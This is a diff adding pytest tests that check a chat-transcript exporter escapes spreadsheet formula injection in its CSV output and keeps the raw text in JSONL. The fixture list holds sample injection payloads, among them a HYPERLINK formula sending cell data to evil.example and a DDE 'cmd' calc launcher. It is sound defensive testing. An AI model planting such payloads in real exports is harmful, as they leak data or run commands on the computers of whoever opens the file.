@@ -52,3 +52,36 @@ def test_an_empty_database_exports_nothing_and_an_unknown_format_is_refused(empt
     assert out.getvalue().splitlines() == [",".join(EXPORT_FIELDS)]
     with pytest.raises(ValueError, match="xml"):
         export_transcripts(empty_settings, io.StringIO(), "xml")
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"refund\")", "+1+2", "-2+3 stars", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "\n-1"]
+
+
+@pytest.fixture
+def formulas(empty_settings: Settings) -> Settings:
+    """A conversation whose customer typed text that a spreadsheet would run, and one plain question."""
+    with transcript_store(empty_settings) as store:
+        conversation, _ = store.open_conversation()
+        for number, text in enumerate([*FORMULAS, "Do you ship to Norway?"]):
+            store.log_turn(conversation, text, None,
+                           BotReplyRecord(f"r{number}", "-- noted", "other", 0.5, route="faq", score=-0.12))
+    return empty_settings
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(formulas: Settings, tmp_path: Path) -> None:
+    out = tmp_path / "t.csv"
+    export_transcripts(formulas, out, "csv")
+    with out.open(newline="", encoding="utf-8") as handle:  # as the csv module reads: "\r" kept inside a cell
+        table = list(csv.DictReader(handle))
+    customer = [row["text"] for row in table if row["role"] == "customer"]
+    assert customer == [*("'" + text for text in FORMULAS), "Do you ship to Norway?"]
+    assert {row["text"] for row in table if row["role"] == "bot"} == {"'-- noted"}
+    assert {row["score"] for row in table if row["role"] == "bot"} == {"-0.12"}  # a number, not text: as it is
+
+
+def test_jsonl_keeps_the_text_as_typed(formulas: Settings) -> None:
+    out = io.StringIO()
+    export_transcripts(formulas, out)
+    rows = [json.loads(line) for line in out.getvalue().splitlines()]
+    assert [row["text"] for row in rows if row["role"] == "customer"] == [*FORMULAS, "Do you ship to Norway?"]
